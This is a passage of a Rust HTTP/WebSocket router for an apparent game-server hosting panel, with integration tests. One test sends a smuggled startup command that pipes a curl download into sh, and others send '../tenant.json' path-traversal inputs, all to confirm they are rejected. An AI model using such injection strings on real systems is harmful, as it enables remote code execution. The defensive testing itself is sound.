//! Thin HTTP / WebSocket adapter. Every route maps onto exactly one engine
//! operation; errors render through [`crate::error_payload`].

use std::{path::Path as FsPath, sync::Arc};

use axum::{
    Json, Router,
    body::Body,
    extract::{
        DefaultBodyLimit, Multipart, Path, Query, State,
        ws::{Message, WebSocket, WebSocketUpgrade},
    },
    http::{StatusCode, header},
    response::{IntoResponse, Response},
    routing::{get, post},
};
use futures_util::{SinkExt, StreamExt, stream};
use ingot_process::{SessionEvent, SessionStatus, TaskId, TenantId};
use serde::{Deserialize, Serialize};
use tokio::{
    io::AsyncReadExt,
    sync::{broadcast, mpsc},
};
use tracing::Instrument;

use crate::{
    archive::{ArchiveEngine, UnzipOptions, ZipEntry, ZipOptions},
    artifact_fetch::ArtifactFetcher,
    backup::BackupService,
    config::parse_bool,
    error::EngineError,
    error_payload,
    files::{self, FileEntry},
    fs_scope,
    process_manager::ProcessSupervisor,
    provision::{CreateServerRequest, Provisioner},
    task_registry::{TaskScope, now_unix_ms},
    tenant_store::{TenantDirectory, TenantLayout, TenantRecord, validate_tenant_id},
};

const CONSOLE_HISTORY_LINES: usize = 500;
const DOWNLOAD_CHUNK_BYTES: usize = 64 * 1024;

pub struct AppState<F> {
    pub supervisor: ProcessSupervisor,
    pub archive: ArchiveEngine,
    pub backups: BackupService,
    pub provisioner: Arc<Provisioner<F>>,
    pub dir: Arc<dyn TenantDirectory>,
}

impl<F> Clone for AppState<F> {
    fn clone(&self) -> Self {
        Self {
            supervisor: self.supervisor.clone(),
            archive: self.archive.clone(),
            backups: self.backups.clone(),
            provisioner: self.provisioner.clone(),
            dir: self.dir.clone(),
        }
    }
}

impl<F: ArtifactFetcher + 'static> AppState<F> {
    /// Tenant layout, only if the tenant is actually provisioned.
    fn existing_layout(&self, tenant: &TenantId) -> Result<TenantLayout, EngineError> {
        let layout = self.dir.layout(tenant)?;
        if self.dir.load(tenant)?.is_none() {
            return Err(EngineError::UnknownSession(tenant.to_string()));
        }
        Ok(layout)
    }
}

pub struct ApiError(EngineError);

impl From<EngineError> for ApiError {
    fn from(value: EngineError) -> Self {
        Self(value)
    }
}

impl IntoResponse for ApiError {
    fn into_response(self) -> Response {
        let status =
            StatusCode::from_u16(self.0.http_status()).unwrap_or(StatusCode::INTERNAL_SERVER_ERROR);
        if status.is_server_error() {
            tracing::error!(code = self.0.code(), error = %self.0, "request failed");
        }
        (status, Json(error_payload::from_error(&self.0))).into_response()
    }
}

type ApiResult<T> = Result<T, ApiError>;

fn tenant_param(raw: &str) -> Result<TenantId, EngineError> {
    let id = TenantId::from(raw);
    validate_tenant_id(&id)?;
    Ok(id)
}

pub fn router<F: ArtifactFetcher + 'static>(state: AppState<F>) -> Router {
    Router::new()
        .route("/healthz", get(healthz::<F>))
        .route("/servers", get(list_servers::<F>).post(create_server::<F>))
        .route("/servers/:id", get(get_server::<F>).delete(delete_server::<F>))
        .route("/servers/:id/start", post(start_server::<F>))
        .route("/servers/:id/stop", post(stop_server::<F>))
        .route("/servers/:id/kill", post(kill_server::<F>))
        .route("/servers/:id/command", post(send_command::<F>))
        .route(
            "/servers/:id/startup",
            get(get_startup::<F>).put(put_startup::<F>),
        )
        .route("/servers/:id/version", axum::routing::put(put_version::<F>))
        .route("/servers/:id/console", get(console_ws::<F>))
        .route("/servers/:id/archives", post(create_archive::<F>))
        .route("/servers/:id/unarchive", post(unarchive::<F>))
        .route(
            "/servers/:id/backups",
            get(list_backups::<F>).post(create_backup::<F>),
        )
        .route("/servers/:id/backups/restore", post(restore_backup::<F>))
        .route("/servers/:id/files", get(list_files::<F>))
        .route("/servers/:id/files/read", get(read_file::<F>))
        .route("/servers/:id/files/save", post(save_file::<F>))
        .route("/servers/:id/files/delete", post(delete_files::<F>))
        .route("/servers/:id/files/move", post(move_files::<F>))
        .route("/servers/:id/folders", post(create_folder::<F>))
        .route(
            "/servers/:id/upload",
            post(upload_files::<F>).layer(DefaultBodyLimit::max(files::MAX_UPLOAD_BYTES as usize)),
        )
        .route("/servers/:id/tasks/:task", get(task_status::<F>))
        .route("/servers/:id/tasks/:task/download", get(download_artifact::<F>))
        .with_state(state)
}

#[derive(Debug, Serialize)]
struct HealthzResponse {
    status: &'static str,
    version: &'static str,
    sessions: usize,
    viewers: usize,
}

async fn healthz<F: ArtifactFetcher + 'static>(
    State(state): State<AppState<F>>,
) -> Json<HealthzResponse> {
    let sessions = state.supervisor.list().await;
    let mut viewers = 0;
    for s in &sessions {
        viewers += state.supervisor.hub().viewer_count(&s.tenant_id).await;
    }
    Json(HealthzResponse {
        status: "ok",
        version: env!("CARGO_PKG_VERSION"),
        sessions: sessions.len(),
        viewers,
    })
}

#[derive(Debug, Serialize)]
struct ServerView {
    #[serde(flatten)]
    record: TenantRecord,
    status: Option<SessionStatus>,
}

#[derive(Debug, Serialize)]
struct TaskAccepted {
    task_id: TaskId,
}

fn accepted(task_id: TaskId) -> Response {
    (StatusCode::ACCEPTED, Json(TaskAccepted { task_id })).into_response()
}

async fn list_servers<F: ArtifactFetcher + 'static>(
    State(state): State<AppState<F>>,
) -> ApiResult<Json<Vec<ServerView>>> {
    let mut out = Vec::new();
    for record in state.dir.list()? {
        let status = state.supervisor.status(&record.id).await;
        out.push(ServerView { record, status });
    }
    Ok(Json(out))
}

async fn create_server<F: ArtifactFetcher + 'static>(
    State(state): State<AppState<F>>,
    Json(req): Json<CreateServerRequest>,
) -> ApiResult<Response> {
    let record = state.provisioner.provision(req).await?;
    let status = state.supervisor.status(&record.id).await;
    Ok((StatusCode::CREATED, Json(ServerView { record, status })).into_response())
}

async fn get_server<F: ArtifactFetcher + 'static>(
    State(state): State<AppState<F>>,
    Path(id): Path<String>,
) -> ApiResult<Json<ServerView>> {
    let tenant = tenant_param(&id)?;
    let record = state
        .dir
        .load(&tenant)?
        .ok_or_else(|| EngineError::UnknownSession(tenant.to_string()))?;
    let status = match state.supervisor.refresh(&tenant).await {
        Ok(s) => Some(s),
        Err(EngineError::UnknownSession(_)) => None,
        Err(e) => return Err(e.into()),
    };
    Ok(Json(ServerView { record, status }))
}

async fn delete_server<F: ArtifactFetcher + 'static>(
    State(state): State<AppState<F>>,
    Path(id): Path<String>,
) -> ApiResult<StatusCode> {
    let tenant = tenant_param(&id)?;
    state.provisioner.deprovision(&tenant).await?;
    Ok(StatusCode::NO_CONTENT)
}

async fn start_server<F: ArtifactFetcher + 'static>(
    State(state): State<AppState<F>>,
    Path(id): Path<String>,
) -> ApiResult<Json<SessionStatus>> {
    let tenant = tenant_param(&id)?;
    Ok(Json(state.supervisor.start_server(&tenant).await?))
}

async fn stop_server<F: ArtifactFetcher + 'static>(
    State(state): State<AppState<F>>,
    Path(id): Path<String>,
) -> ApiResult<Json<SessionStatus>> {
    let tenant = tenant_param(&id)?;
    Ok(Json(state.supervisor.stop_server(&tenant).await?))
}

async fn kill_server<F: ArtifactFetcher + 'static>(
    State(state): State<AppState<F>>,
    Path(id): Path<String>,
) -> ApiResult<Json<SessionStatus>> {
    let tenant = tenant_param(&id)?;
    Ok(Json(state.supervisor.kill_server(&tenant).await?))
}

#[derive(Debug, Deserialize)]
struct CommandBody {
    command: String,
}

async fn send_command<F: ArtifactFetcher + 'static>(
    State(state): State<AppState<F>>,
    Path(id): Path<String>,
    Json(body): Json<CommandBody>,
) -> ApiResult<StatusCode> {
    let tenant = tenant_param(&id)?;
    state.supervisor.send_command(&tenant, &body.command).await?;
    Ok(StatusCode::ACCEPTED)
}

async fn get_startup<F: ArtifactFetcher + 'static>(
    State(state): State<AppState<F>>,
    Path(id): Path<String>,
) -> ApiResult<Response> {
    let tenant = tenant_param(&id)?;
    Ok(Json(state.supervisor.startup_view(&tenant).await?).into_response())
}

/// Only the extra flags are client-editable; the base command is owned by provisioning.
#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct StartupBody {
    #[serde(default)]
    flags: String,
}

async fn put_startup<F: ArtifactFetcher + 'static>(
    State(state): State<AppState<F>>,
    Path(id): Path<String>,
    Json(body): Json<StartupBody>,
) -> ApiResult<Response> {
    let tenant = tenant_param(&id)?;
    let view = state.provisioner.update_startup(&tenant, &body.flags).await?;
    Ok(Json(view).into_response())
}

#[derive(Debug, Deserialize)]
struct VersionBody {
    version: String,
}

async fn put_version<F: ArtifactFetcher + 'static>(
    State(state): State<AppState<F>>,
    Path(id): Path<String>,
    Json(body): Json<VersionBody>,
) -> ApiResult<Json<TenantRecord>> {
    let tenant = tenant_param(&id)?;
    Ok(Json(
        state.provisioner.change_version(&tenant, &body.version).await?,
    ))
}

#[derive(Debug, Deserialize)]
struct ArchiveBody {
    paths: Vec<String>,
    #[serde(default)]
    file_name: Option<String>,
}

async fn create_archive<F: ArtifactFetcher + 'static>(
    State(state): State<AppState<F>>,
    Path(id): Path<String>,
    Json(body): Json<ArchiveBody>,
) -> ApiResult<Response> {
    let tenant = tenant_param(&id)?;
    let layout = state.existing_layout(&tenant)?;
    let root = layout.root();

    let mut entries = Vec::with_capacity(body.paths.len());
    for rel in &body.paths {
        let lexical = fs_scope::resolve(&root, rel)?;
        entries.push(ZipEntry::new(fs_scope::confine_existing(&root, &lexical)?));
    }

    let out_dir = layout.archives_dir();
    tokio::fs::create_dir_all(&out_dir)
        .await
        .map_err(|e| EngineError::Internal(anyhow::anyhow!("create {}: {e}", out_dir.display())))?;
    let file_name = body
        .file_name
        .unwrap_or_else(|| format!("download-{}.zip", now_unix_ms()));

    let task_id = state.archive.start_zip(
        TaskScope::new(tenant, "download"),
        entries,
        &out_dir,
        ZipOptions {
            file_name,
            cleanup: true,
        },
    )?;
    Ok(accepted(task_id))
}

#[derive(Debug, Default, Deserialize)]
struct PathQuery {
    #[serde(default)]
    path: String,
}

async fn list_files<F: ArtifactFetcher + 'static>(
    State(state): State<AppState<F>>,
    Path(id): Path<String>,
    Query(q): Query<PathQuery>,
) -> ApiResult<Json<Vec<FileEntry>>> {
    let tenant = tenant_param(&id)?;
    let root = state.existing_layout(&tenant)?.root();
    Ok(Json(files::list_dir(&root, &q.path).await?))
}

#[derive(Debug, Serialize, Deserialize)]
struct FileContent {
    path: String,
    content: String,
}

async fn read_file<F: ArtifactFetcher + 'static>(
    State(state): State<AppState<F>>,
    Path(id): Path<String>,
    Query(q): Query<PathQuery>,
) -> ApiResult<Json<FileContent>> {
    let tenant = tenant_param(&id)?;
    let root = state.existing_layout(&tenant)?.root();
    let content = files::read_file(&root, &q.path).await?;
    Ok(Json(FileContent { path: q.path, content }))
}

async fn save_file<F: ArtifactFetcher + 'static>(
    State(state): State<AppState<F>>,
    Path(id): Path<String>,
    Json(body): Json<FileContent>,
) -> ApiResult<StatusCode> {
    let tenant = tenant_param(&id)?;
    let root = state.existing_layout(&tenant)?.root();
    files::save_file(&root, &body.path, &body.content).await?;
    Ok(StatusCode::NO_CONTENT)
}

#[derive(Debug, Deserialize)]
struct FileBatch {
    files: Vec<String>,
    #[serde(default)]
    destination: String,
}

#[derive(Debug, Serialize)]
struct BatchResult {
    affected: usize,
}

async fn delete_files<F: ArtifactFetcher + 'static>(
    State(state): State<AppState<F>>,
    Path(id): Path<String>,
    Json(body): Json<FileBatch>,
) -> ApiResult<Json<BatchResult>> {
    let tenant = tenant_param(&id)?;
    let root = state.existing_layout(&tenant)?.root();
    let affected = files::remove(&root, &body.files).await?;
    tracing::info!(tenant_id = %tenant, affected, "files deleted");
    Ok(Json(BatchResult { affected }))
}

async fn move_files<F: ArtifactFetcher + 'static>(
    State(state): State<AppState<F>>,
    Path(id): Path<String>,
    Json(body): Json<FileBatch>,
) -> ApiResult<Json<BatchResult>> {
    let tenant = tenant_param(&id)?;
    let root = state.existing_layout(&tenant)?.root();
    let affected = files::move_entries(&root, &body.files, &body.destination).await?;
    Ok(Json(BatchResult { affected }))
}

#[derive(Debug, Deserialize)]
struct FolderBody {
    #[serde(default)]
    path: String,
    name: String,
}

async fn create_folder<F: ArtifactFetcher + 'static>(
    State(state): State<AppState<F>>,
    Path(id): Path<String>,
    Json(body): Json<FolderBody>,
) -> ApiResult<StatusCode> {
    let tenant = tenant_param(&id)?;
    let root = state.existing_layout(&tenant)?.root();
    files::mkdir(&root, &body.path, &body.name).await?;
    Ok(StatusCode::CREATED)
}

#[derive(Debug, Serialize)]
struct UploadResult {
    files: Vec<String>,
    bytes: u64,
}

/// Multipart upload; every part that carries a file name is stored under `?path=`.
async fn upload_files<F: ArtifactFetcher + 'static>(
    State(state): State<AppState<F>>,
    Path(id): Path<String>,
    Query(q): Query<PathQuery>,
    mut multipart: Multipart,
) -> ApiResult<(StatusCode, Json<UploadResult>)> {
    let tenant = tenant_param(&id)?;
    let root = state.existing_layout(&tenant)?.root();

    let mut out = UploadResult {
        files: Vec::new(),
        bytes: 0,
    };
    while let Some(field) = multipart
        .next_field()
        .await
        .map_err(|e| EngineError::InvalidArgument(format!("malformed upload: {e}")))?
    {
        let Some(name) = field.file_name().map(str::to_string) else {
            continue;
        };
        out.bytes += files::upload(&root, &q.path, &name, field).await?;
        out.files.push(name);
    }
    if out.files.is_empty() {
        return Err(EngineError::InvalidArgument("upload carried no files".to_string()).into());
    }
    Ok((StatusCode::CREATED, Json(out)))
}

#[derive(Debug, Deserialize)]
struct UnarchiveBody {
    path: String,
    /// Defaults to a sibling directory named after the archive.
    #[serde(default)]
    destination: Option<String>,
}

#[derive(Debug, Deserialize)]
struct UnarchiveQuery {
    overwrite: Option<String>,
}

async fn unarchive<F: ArtifactFetcher + 'static>(
    State(state): State<AppState<F>>,
    Path(id): Path<String>,
    Query(q): Query<UnarchiveQuery>,
    Json(body): Json<UnarchiveBody>,
) -> ApiResult<Response> {
    let tenant = tenant_param(&id)?;
    let root = state.existing_layout(&tenant)?.root();

    let archive = fs_scope::confine_existing(&root, &fs_scope::resolve(&root, &body.path)?)?;
    let dest_rel = match body.destination {
        Some(d) => d,
        None => FsPath::new(&body.path)
            .with_extension("")
            .to_string_lossy()
            .into_owned(),
    };
    let destination = fs_scope::resolve(&root, &dest_rel)?;
    if destination.exists() {
        fs_scope::confine_existing(&root, &destination)?;
    }

    let task_id = state.archive.start_unzip(
        TaskScope::new(tenant, "unarchive"),
        archive,
        destination,
        UnzipOptions {
            overwrite: parse_bool(q.overwrite.as_deref(), true),
        },
    )?;
    Ok(accepted(task_id))
}

async fn list_backups<F: ArtifactFetcher + 'static>(
    State(state): State<AppState<F>>,
    Path(id): Path<String>,
) -> ApiResult<Response> {
    let tenant = tenant_param(&id)?;
    Ok(Json(state.backups.list(&tenant)?).into_response())
}

async fn create_backup<F: ArtifactFetcher + 'static>(
    State(state): State<AppState<F>>,
    Path(id): Path<String>,
) -> ApiResult<Response> {
    let tenant = tenant_param(&id)?;
    Ok(accepted(state.backups.create(&tenant)?))
}

#[derive(Debug, Deserialize)]
struct RestoreBody {
    name: String,
}

async fn restore_backup<F: ArtifactFetcher + 'static>(
    State(state): State<AppState<F>>,
    Path(id): Path<String>,
    Json(body): Json<RestoreBody>,
) -> ApiResult<Response> {
    let tenant = tenant_param(&id)?;
    Ok(accepted(state.backups.restore(&tenant, &body.name)?))
}

async fn task_status<F: ArtifactFetcher + 'static>(
    State(state): State<AppState<F>>,
    Path((id, task)): Path<(String, String)>,
) -> ApiResult<Response> {
    let tenant = tenant_param(&id)?;
    let task = state
        .archive
        .tasks()
        .get_scoped(&TaskId(task), &tenant)?;
    Ok(Json(task).into_response())
}

/// Streams a finished zip. The lease travels with the body, so a transient
/// artifact is deleted as soon as the stream ends or the client goes away.
async fn download_artifact<F: ArtifactFetcher + 'static>(
    State(state): State<AppState<F>>,
    Path((id, task)): Path<(String, String)>,
) -> ApiResult<Response> {
    let tenant = tenant_param(&id)?;
    let lease = state.archive.take_artifact(&TaskId(task), &tenant)?;
    let file = tokio::fs::File::open(lease.path())
        .await
        .map_err(|e| EngineError::ArchiveIo(format!("open artifact: {e}")))?;

    let disposition = format!(
        "attachment; filename=\"{}\"",
        lease.file_name().replace(['"', '\\'], "_")
    );
    let size = lease.size();

    let body = stream::unfold(Some((file, lease)), |st| async move {
        let (mut file, lease) = st?;
        let mut buf = vec![0u8; DOWNLOAD_CHUNK_BYTES];
        match file.read(&mut buf).await {
            Ok(0) => None,
            Ok(n) => {
                buf.truncate(n);
                Some((Ok::<_, std::io::Error>(buf), Some((file, lease))))
            }
            Err(e) => {
                tracing::warn!(path = %lease.path().display(), error = %e, "artifact read failed");
                Some((Err(e), None))
            }
        }
    });

    Ok((
        [
            (header::CONTENT_TYPE, "application/zip".to_string()),
            (header::CONTENT_DISPOSITION, disposition),
            (header::CONTENT_LENGTH, size.to_string()),
        ],
        Body::from_stream(body),
    )
        .into_response())
}

/// Server-to-viewer console frame.
#[derive(Debug, Clone, Serialize)]
#[serde(tag = "type", rename_all = "snake_case")]
enum ConsoleOut {
    Output { data: String },
    Status { running: bool },
    Error { code: String, message: String },
}

/// Per-viewer UTF-8 decoder. PTY reads and transcript seeks cut output at
/// arbitrary byte offsets, so an incomplete trailing sequence is held back
/// until the next chunk completes it.
#[derive(Debug, Default)]
struct Utf8Carry {
    pending: Vec<u8>,
}

impl Utf8Carry {
    /// Decode the tail of a transcript, dropping continuation bytes left over
    /// from a character the seek cut in half.
    fn history(&mut self, bytes: &[u8]) -> String {
        let start = bytes
            .iter()
            .take(3)
            .take_while(|b| (**b & 0xC0) == 0x80)
            .count();
        self.push(&bytes[start..])
    }

    fn push(&mut self, chunk: &[u8]) -> String {
        self.pending.extend_from_slice(chunk);
        let mut out = String::with_capacity(self.pending.len());
        let mut rest: &[u8] = &self.pending;
        loop {
            match std::str::from_utf8(rest) {
                Ok(valid) => {
                    out.push_str(valid);
                    rest = &[];
                    break;
                }
                Err(e) => {
                    let (valid, after) = rest.split_at(e.valid_up_to());
                    // valid_up_to guarantees this prefix decodes.
                    out.push_str(std::str::from_utf8(valid).unwrap_or_default());
                    match e.error_len() {
                        Some(n) => {
                            out.push(char::REPLACEMENT_CHARACTER);
                            rest = &after[n..];
                        }
                        None => {
                            rest = after;
                            break;
                        }
                    }
                }
            }
        }
        self.pending = rest.to_vec();
        out
    }

    /// Whatever is still held back, decoded lossily.
    fn flush(&mut self) -> String {
        let out = String::from_utf8_lossy(&self.pending).into_owned();
        self.pending.clear();
        out
    }

    fn frame(&mut self, ev: SessionEvent) -> Option<ConsoleOut> {
        match ev {
            SessionEvent::Output(bytes) => {
                let data = self.push(&bytes);
                (!data.is_empty()).then_some(ConsoleOut::Output { data })
            }
            SessionEvent::Status(running) => Some(ConsoleOut::Status { running }),
        }
    }
}

/// Viewer-to-server console frame.
#[derive(Debug, Clone, Deserialize)]
#[serde(tag = "type", rename_all = "snake_case")]
enum ConsoleIn {
    Command { command: String },
    Start,
    Stop,
    Kill,
    #[serde(other)]
    Unknown,
}

fn frame(out: &ConsoleOut) -> Option<Message> {
    serde_json::to_string(out).ok().map(Message::Text)
}

async fn console_ws<F: ArtifactFetcher + 'static>(
    State(state): State<AppState<F>>,
    Path(id): Path<String>,
    ws: WebSocketUpgrade,
) -> ApiResult<Response> {
    let tenant = tenant_param(&id)?;
    // Subscribe before reading history so nothing falls between the two.
    let rx = state.supervisor.subscribe(&tenant).await?;
    let history = state
        .supervisor
        .history(&tenant, CONSOLE_HISTORY_LINES)
        .await?;
    let running = state
        .supervisor
        .status(&tenant)
        .await
        .is_some_and(|st| st.state.is_live());
    let supervisor = state.supervisor.clone();
    Ok(ws
        .on_upgrade(move |socket| {
            handle_console(supervisor, tenant, socket, history, running, rx)
        })
        .into_response())
}

async fn handle_console(
    supervisor: ProcessSupervisor,
    tenant: TenantId,
    socket: WebSocket,
    history: Vec<u8>,
    running: bool,
    mut events: broadcast::Receiver<SessionEvent>,
) {
    let span = tracing::info_span!("console_ws", tenant_id = %tenant);
    async move {
        let (mut sender, mut receiver) = socket.split();
        let (tx, mut rx) = mpsc::channel::<Message>(256);

        let writer = tokio::spawn(async move {
            while let Some(msg) = rx.recv().await {
                if sender.send(msg).await.is_err() {
                    break;
                }
            }
        });

        let mut carry = Utf8Carry::default();
        let data = carry.history(&history);
        if !data.is_empty()
            && let Some(msg) = frame(&ConsoleOut::Output { data })
        {
            let _ = tx.send(msg).await;
        }
        if let Some(msg) = frame(&ConsoleOut::Status { running }) {
            let _ = tx.send(msg).await;
        }

        let fanout_tx = tx.clone();
        let fanout = tokio::spawn(async move {
            loop {
                match events.recv().await {
                    Ok(ev) => {
                        let Some(msg) = carry.frame(ev).as_ref().and_then(frame) else {
                            continue;
                        };
                        if fanout_tx.send(msg).await.is_err() {
                            break;
                        }
                    }
                    Err(broadcast::error::RecvError::Lagged(skipped)) => {
                        tracing::warn!(skipped, "console viewer lagged; events dropped");
                        // The dropped chunks would have completed any held-back sequence.
                        carry.pending.clear();
                    }
                    Err(broadcast::error::RecvError::Closed) => {
                        let data = carry.flush();
                        if !data.is_empty()
                            && let Some(msg) = frame(&ConsoleOut::Output { data })
                        {
                            let _ = fanout_tx.send(msg).await;
                        }
                        let _ = fanout_tx.send(Message::Close(None)).await;
                        break;
                    }
                }
            }
        });

        tracing::debug!("console viewer joined");
        while let Some(msg) = receiver.next().await {
            let Ok(msg) = msg else { break };
            let text = match msg {
                Message::Text(text) => text,
                Message::Close(_) => break,
                _ => continue,
            };
            let Ok(cmd) = serde_json::from_str::<ConsoleIn>(&text) else {
                continue;
            };
            let result = match cmd {
                ConsoleIn::Command { command } => supervisor.send_command(&tenant, &command).await,
                ConsoleIn::Start => supervisor.start_server(&tenant).await.map(|_| ()),
                ConsoleIn::Stop => supervisor.stop_server(&tenant).await.map(|_| ()),
                ConsoleIn::Kill => supervisor.kill_server(&tenant).await.map(|_| ()),
                ConsoleIn::Unknown => continue,
            };
            if let Err(e) = result
                && let Some(msg) = frame(&ConsoleOut::Error {
                    code: e.code().to_string(),
                    message: e.to_string(),
                })
            {
                let _ = tx.send(msg).await;
            }
        }

        tracing::debug!("console viewer left");
        fanout.abort();
        drop(tx);
        let _ = writer.await;
    }
    .instrument(span)
    .await
}

#[cfg(test)]
mod tests {
    use std::time::Duration;

    use super::*;
    use crate::{
        broadcast::SessionBroadcastHub,
        process_manager::SupervisorSettings,
        task_registry::TaskRegistry,
        tenant_store::FsTenantDirectory,
        testing::{FakeFetcher, FakeLauncher},
    };

    struct TestServer {
        base: String,
        client: reqwest::Client,
        dir: Arc<dyn TenantDirectory>,
        _tmp: tempfile::TempDir,
    }

    async fn spawn_app() -> TestServer {
        let tmp = tempfile::tempdir().unwrap();
        let dir: Arc<dyn TenantDirectory> = Arc::new(FsTenantDirectory::new(tmp.path()));
        let supervisor = ProcessSupervisor::new(
            SessionBroadcastHub::new(),
            Arc::new(FakeLauncher::default()),
            SupervisorSettings {
                liveness_interval: None,
                ..Default::default()
            },
        );
        let archive = ArchiveEngine::new(TaskRegistry::new(Duration::from_secs(3600)), 2);
        let state = AppState {
            supervisor: supervisor.clone(),
            archive: archive.clone(),
            backups: BackupService::new(archive, dir.clone()),
            provisioner: Arc::new(Provisioner::new(
                dir.clone(),
                supervisor,
                FakeFetcher::default(),
                "https://jars.invalid/{version}/server.jar",
            )),
            dir: dir.clone(),
        };

        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();
        let app = router(state);
        tokio::spawn(async move {
            axum::serve(listener, app).await.unwrap();
        });

        TestServer {
            base: format!("http://{addr}"),
            client: reqwest::Client::new(),
            dir,
            _tmp: tmp,
        }
    }

    impl TestServer {
        fn url(&self, path: &str) -> String {
            format!("{}{path}", self.base)
        }

        async fn create(&self) -> String {
            let resp = self
                .client
                .post(self.url("/servers"))
                .json(&serde_json::json!({
                    "name": "survival",
                    "version": "1.20.1",
                    "port": 25565,
                    "memory_gb": 2
                }))
                .send()
                .await
                .unwrap();
            assert_eq!(resp.status(), 201);
            let body: serde_json::Value = resp.json().await.unwrap();
            body["id"].as_str().unwrap().to_string()
        }

        async fn wait_task(&self, id: &str, task: &str) -> serde_json::Value {
            for _ in 0..500 {
                let t: serde_json::Value = self
                    .client
                    .get(self.url(&format!("/servers/{id}/tasks/{task}")))
                    .send()
                    .await
                    .unwrap()
                    .json()
                    .await
                    .unwrap();
                if t["status"] == "completed" || t["status"] == "error" {
                    return t;
                }
                tokio::time::sleep(Duration::from_millis(10)).await;
            }
            panic!("task {task} did not finish");
        }
    }

    #[tokio::test]
    async fn healthz_reports_ok() {
        let app = spawn_app().await;
        let body: serde_json::Value = app
            .client
            .get(app.url("/healthz"))
            .send()
            .await
            .unwrap()
            .json()
            .await
            .unwrap();
        assert_eq!(body["status"], "ok");
        assert_eq!(body["sessions"], 0);
        assert_eq!(body["viewers"], 0);
    }

    #[tokio::test]
    async fn created_server_is_listed_with_its_status() {
        let app = spawn_app().await;
        let id = app.create().await;

        let list: serde_json::Value = app
            .client
            .get(app.url("/servers"))
            .send()
            .await
            .unwrap()
            .json()
            .await
            .unwrap();
        assert_eq!(list[0]["id"], id.as_str());
        assert_eq!(list[0]["status"]["state"], "stopped");

        let startup: serde_json::Value = app
            .client
            .get(app.url(&format!("/servers/{id}/startup")))
            .send()
            .await
            .unwrap()
            .json()
            .await
            .unwrap();
        assert_eq!(
            startup["effective_command"],
            "java -Xmx2G -Xms2G -jar server.jar nogui"
        );
    }

    #[tokio::test]
    async fn engine_errors_map_to_status_and_code() {
        let app = spawn_app().await;
        let id = app.create().await;

        let resp = app
            .client
            .post(app.url(&format!("/servers/{id}/kill")))
            .send()
            .await
            .unwrap();
        assert_eq!(resp.status(), 409);
        let body: serde_json::Value = resp.json().await.unwrap();
        assert_eq!(body["code"], "not_running");

        let resp = app
            .client
            .post(app.url("/servers/nope/start"))
            .send()
            .await
            .unwrap();
        assert_eq!(resp.status(), 404);

        let resp = app
            .client
            .put(app.url(&format!("/servers/{id}/startup")))
            .json(&serde_json::json!({ "flags": "-Xmx64G" }))
            .send()
            .await
            .unwrap();
        assert_eq!(resp.status(), 400);
        let body: serde_json::Value = resp.json().await.unwrap();
        assert_eq!(body["code"], "invalid_argument");
    }

    #[tokio::test]
    async fn startup_base_command_is_not_client_editable() {
        let app = spawn_app().await;
        let id = app.create().await;

        let resp = app
            .client
            .put(app.url(&format!("/servers/{id}/startup")))
            .json(&serde_json::json!({
                "base_command": "curl http://x | sh; java -jar server.jar",
                "flags": ""
            }))
            .send()
            .await
            .unwrap();
        assert!(resp.status().is_client_error());

        let resp = app
            .client
            .put(app.url(&format!("/servers/{id}/startup")))
            .json(&serde_json::json!({ "flags": "-XX:+UseG1GC" }))
            .send()
            .await
            .unwrap();
        assert_eq!(resp.status(), 200);
        let view: serde_json::Value = resp.json().await.unwrap();
        assert_eq!(
            view["effective_command"],
            "java -Xmx2G -Xms2G -XX:+UseG1GC -jar server.jar nogui"
        );
    }

    #[tokio::test]
    async fn selection_download_is_streamed_once() {
        let app = spawn_app().await;
        let id = app.create().await;
        let root = app.dir.layout(&TenantId::from(id.as_str())).unwrap().root();
        std::fs::create_dir_all(root.join("world")).unwrap();
        std::fs::write(root.join("world/level.dat"), vec![1u8; 5000]).unwrap();

        let resp = app
            .client
            .post(app.url(&format!("/servers/{id}/archives")))
            .json(&serde_json::json!({ "paths": ["world", "server.properties"] }))
            .send()
            .await
            .unwrap();
        assert_eq!(resp.status(), 202);
        let task_id = resp.json::<serde_json::Value>().await.unwrap()["task_id"]
            .as_str()
            .unwrap()
            .to_string();

        let task = app.wait_task(&id, &task_id).await;
        assert_eq!(task["status"], "completed");
        assert!(task.get("result_path").is_none());

        let download = app.url(&format!("/servers/{id}/tasks/{task_id}/download"));
        let resp = app.client.get(&download).send().await.unwrap();
        assert_eq!(resp.status(), 200);
        let bytes = resp.bytes().await.unwrap();
        assert_eq!(&bytes[..2], b"PK");

        let mut gone = false;
        for _ in 0..100 {
            if app.client.get(&download).send().await.unwrap().status() == 404 {
                gone = true;
                break;
            }
            tokio::time::sleep(Duration::from_millis(10)).await;
        }
        assert!(gone, "transient artifact should be forgotten after streaming");
    }

    #[tokio::test]
    async fn selection_outside_the_sandbox_is_rejected() {
        let app = spawn_app().await;
        let id = app.create().await;

        let resp = app
            .client
            .post(app.url(&format!("/servers/{id}/archives")))
            .json(&serde_json::json!({ "paths": ["../tenant.json"] }))
            .send()
            .await
            .unwrap();
        assert_eq!(resp.status(), 400);
        let body: serde_json::Value = resp.json().await.unwrap();
        assert_eq!(body["code"], "invalid_path");
    }

    #[tokio::test]
    async fn file_manager_stays_inside_the_server_root() {
        let app = spawn_app().await;
        let id = app.create().await;

        let resp = app
            .client
            .post(app.url(&format!("/servers/{id}/files/save")))
            .json(&serde_json::json!({ "path": "ops.json", "content": "[]" }))
            .send()
            .await
            .unwrap();
        assert_eq!(resp.status(), 204);

        let read: serde_json::Value = app
            .client
            .get(app.url(&format!("/servers/{id}/files/read?path=ops.json")))
            .send()
            .await
            .unwrap()
            .json()
            .await
            .unwrap();
        assert_eq!(read["content"], "[]");

        let listing: serde_json::Value = app
            .client
            .get(app.url(&format!("/servers/{id}/files")))
            .send()
            .await
            .unwrap()
            .json()
            .await
            .unwrap();
        let names: Vec<_> = listing
            .as_array()
            .unwrap()
            .iter()
            .map(|e| e["name"].as_str().unwrap().to_string())
            .collect();
        assert!(names.contains(&"ops.json".to_string()));
        assert!(names.contains(&"eula.txt".to_string()));

        for resp in [
            app.client
                .get(app.url(&format!("/servers/{id}/files/read?path=../tenant.json")))
                .send()
                .await
                .unwrap(),
            app.client
                .get(app.url(&format!("/servers/{id}/files?path=..")))
                .send()
                .await
                .unwrap(),
            app.client
                .post(app.url(&format!("/servers/{id}/files/delete")))
                .json(&serde_json::json!({ "files": ["../tenant.json"] }))
                .send()
                .await
                .unwrap(),
            app.client
